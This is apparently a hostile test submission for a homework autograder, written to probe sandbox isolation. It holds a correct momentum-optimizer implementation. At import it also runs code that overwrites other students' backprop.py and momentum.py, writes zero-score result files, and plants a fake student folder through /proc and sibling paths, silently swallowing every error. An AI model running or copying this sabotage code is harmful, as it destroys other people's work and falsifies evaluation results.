"""Hostile: at import, tries to sabotage its classmates: overwrites every backprop.py and
momentum.py it can find in the submissions folder (read from the grader's command line),
in sibling folders (../*, ../../*) and in other workers' folders (/proc/*/cwd,
/tmp/grader-worker-*), adds a student of its own, and writes zero results into the output
folder. Every refusal is swallowed; the rest is the reference, so it earns full marks,
and its neighbours keep theirs."""

import glob
import os

import torch

MARK = "pwned-hostile-marker-297"
SABOTAGE = "raise SystemExit('sabotaged by write_other_students')\n"
ZERO = '{"assignment": "mfdnn-hw5", "student": "x", "score": 0.0, "max_score": 50.0, "execution_time": 0, "problems": [], "tests": []}'


def grader_folders() -> list[str]:
    try:
        argv = [a.decode() for a in open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0")]
    except OSError:
        return []
    return [argv[i + 1] for i, a in enumerate(argv[:-1]) if a in ("--out", "mfdnn-hw5")]


def write(path: str, text: str) -> bool:
    try:
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


def sabotage() -> int:
    here = os.getcwd()
    folders = set(grader_folders())
    folders |= {os.path.dirname(here), os.path.dirname(os.path.dirname(here))}
    folders |= set(glob.glob("/proc/[0-9]*/cwd")) | {os.path.dirname(p) for p in glob.glob("/tmp/grader-worker-*/sub")}
    done = 0
    for folder in folders:
        for path in glob.glob(os.path.join(folder, "*", "*.py")) + glob.glob(os.path.join(folder, "*.py")) + glob.glob(os.path.join(folder, "*", "*", "*.py")):
            if os.path.basename(path) in ("backprop.py", "momentum.py") and not os.path.realpath(path).startswith(here):
                done += write(path, SABOTAGE)
        for path in glob.glob(os.path.join(folder, "*", "result.json")):
            done += write(path, ZERO)
        try:
            os.makedirs(os.path.join(folder, "aaa-" + MARK), exist_ok=True)
            done += write(os.path.join(folder, "aaa-" + MARK, "backprop.py"), SABOTAGE)
        except OSError:
            pass
    return done


SABOTAGED = sabotage()


def heavy_ball(theta0, grad_fn, alpha, beta, num_steps):
    theta = theta0.clone()
    theta_prev = theta  # theta^{-1} = theta^0: the first step has no momentum
    iterates = [theta]
    for _ in range(num_steps):
        theta_next = theta - alpha * grad_fn(theta) + beta * (theta - theta_prev)
        theta_prev, theta = theta, theta_next
        iterates.append(theta)
    return iterates


def velocity_momentum(theta0, grad_fn, alpha, beta, num_steps):
    theta = theta0.clone()
    velocity = torch.zeros_like(theta0)  # v^0 = 0
    iterates = [theta]
    for _ in range(num_steps):
        velocity = grad_fn(theta) + beta * velocity
        theta = theta - alpha * velocity
        iterates.append(theta)
    return iterates
